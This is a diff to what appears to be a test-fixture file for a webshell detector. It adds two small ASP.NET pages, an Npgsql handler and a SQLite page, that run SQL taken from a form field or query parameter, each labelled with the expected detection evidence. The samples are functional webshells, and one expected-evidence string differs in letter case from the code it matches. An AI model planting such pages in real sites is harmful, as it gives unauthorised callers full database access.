@@ -1,5 +1,6 @@
 """Pages that run the SQL text the client sends: the whole command text of an ADO.NET command
-(`SqlCommand`, `OleDbCommand`, `OdbcCommand`, `OracleCommand`, `MySqlCommand`, their data
+(`SqlCommand`, `OleDbCommand`, `OdbcCommand`, `OracleCommand`, `MySqlCommand`, `NpgsqlCommand`,
+`SQLiteCommand`, their data
 adapters, and ADO's `Connection.Execute` and `Recordset.Open` through COM) is request data, so the page is a SQL client for whoever calls it. Written from the
 platform's documentation of the command constructors and `CommandText`
 (docs/detection/webshell-code.md, "SQL text from the request"), each beside genuine pages that
@@ -111,6 +112,41 @@ End Sub
 </script>""",
         "EXH-WS-CODE-SQL-QUERY",
         ["form field 'stmt'", "adodb.connection.Execute"],
+    ),
+    (
+        "pg.ashx",
+        # A PostgreSQL client: server, credentials and query all the client's (Npgsql).
+        """<%@ WebHandler Language="C#" Class="Pg" %>
+using System.Web;
+using Npgsql;
+public class Pg : IHttpHandler {
+    public bool IsReusable { get { return false; } }
+    public void ProcessRequest(HttpContext ctx) {
+        using (var cn = new NpgsqlConnection(ctx.Request.Form["cs"])) {
+            cn.Open();
+            var rd = new NpgsqlCommand(ctx.Request.Form["q"], cn).ExecuteReader();
+            while (rd.Read()) ctx.Response.Write(rd[0] + "\\n");
+        }
+    }
+}""",
+        "EXH-WS-CODE-SQL-QUERY",
+        ["form field 'q'", "new NpgsqlCommand"],
+    ),
+    (
+        "lite.aspx",
+        """<%@ Page Language="C#" %>
+<%@ Import Namespace="Microsoft.Data.Sqlite" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+    using (var cn = new SqliteConnection("Data Source=" + Server.MapPath("~/App_Data/site.db"))) {
+        cn.Open();
+        var cmd = new SqliteCommand(Request.QueryString["sql"], cn);
+        Response.Write(cmd.ExecuteScalar());
+    }
+}
+</script>""",
+        "EXH-WS-CODE-SQL-QUERY",
+        ["query parameter 'sql'", "new SQLiteCommand"],
     ),
 ]
 
